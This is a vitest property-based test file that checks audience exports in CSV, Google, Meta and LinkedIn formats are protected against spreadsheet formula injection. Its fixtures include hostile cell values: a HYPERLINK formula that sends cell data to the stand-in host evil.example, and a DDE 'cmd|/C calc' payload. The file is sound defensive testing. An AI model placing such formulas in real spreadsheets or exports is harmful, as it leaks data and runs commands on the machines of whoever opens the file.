import { beforeAll, describe, expect, test, vi } from 'vitest';
import fc from 'fast-check';
import { makeHardeningApp, type HardeningApp } from './hardening-app.js';
import { RUNS, TIMEOUT } from './hostile-values.js';
import { parseCsv } from '../audiences/rfc4180.js';
import { TRAIT_KEYS } from '../../shared/events.js';

vi.setConfig({ testTimeout: TIMEOUT });

let h: HardeningApp;
beforeAll(async () => {
  h = await makeHardeningApp({ RATE_LIMIT_API_PER_SEC: 0 });
  const res = await h.api('/api/segments/known', { method: 'PUT', body: JSON.stringify({ name: 'Known', definition: { identified: true } }) });
  expect(res.status).toBeLessThan(300);
});

/** What a spreadsheet would run: a cell starting with = + - @ (or a tab or CR before one). Plain numbers are fine. */
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\t=', '\r\n=', '=+', '-@'];
const formula = fc.tuple(fc.constantFrom(...FORMULA_STARTS), fc.constantFrom('HYPERLINK("http://evil.example/?x="&A1,"click")', "cmd|' /C calc'!A0", 'SUM(1+1)', '1+1', 'x', '')).map(([a, b]) => a + b);
const localPart = fc.tuple(fc.constantFrom('=', '+', '-', ''), fc.stringMatching(/^[a-z0-9]{1,8}$/)).map(([a, b]) => a + b);

describe('CSV injection in exports', () => {
  test('no exported cell of any format starts a formula, whatever the traits and emails hold', async () => {
    let exported = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ local: localPart, traits: fc.dictionary(fc.constantFrom(...TRAIT_KEYS), formula, { minKeys: 1 }) }), { minLength: 1, maxLength: 3 }),
        async (people) => {
          const events = people.map((p, i) => ({ email: `${p.local}${exported}_${i}@example.com`, name: 'demo_completed', traits: p.traits }));
          const res = await h.api('/api/events', { method: 'POST', body: JSON.stringify(events) });
          expect(res.status, await res.clone().text()).toBe(202);
          for (const format of ['csv', 'google', 'meta', 'linkedin']) {
            const out = await h.api(`/api/segments/known/members?format=${format}`);
            expect(out.status).toBe(200);
            const rows = parseCsv(await out.text());
            const cells = rows.slice(1).flat();
            const bad = cells.filter(startsFormula);
            expect(bad, format).toEqual([]);
            exported += rows.length - 1;
          }
        },
      ),
      { numRuns: Math.max(10, RUNS / 3) },
    );
    expect(exported).toBeGreaterThan(10); // members were really exported
  });

  test('the guard keeps the value readable: the hostile text is still in the plain CSV after a quote mark', async () => {
    const res = await h.api('/api/events', { method: 'POST', body: JSON.stringify({ email: 'guard@example.com', name: 'demo_completed', traits: { company: '=HYPERLINK("http://evil.example")' } }) });
    expect(res.status).toBe(202);
    const rows = parseCsv(await (await h.api('/api/segments/known/members?format=csv')).text());
    const company = rows[0].indexOf('company');
    const row = rows.find((r) => r.includes('guard@example.com'));
    expect(row?.[company]).toBe('\'=HYPERLINK("http://evil.example")');
  });
});
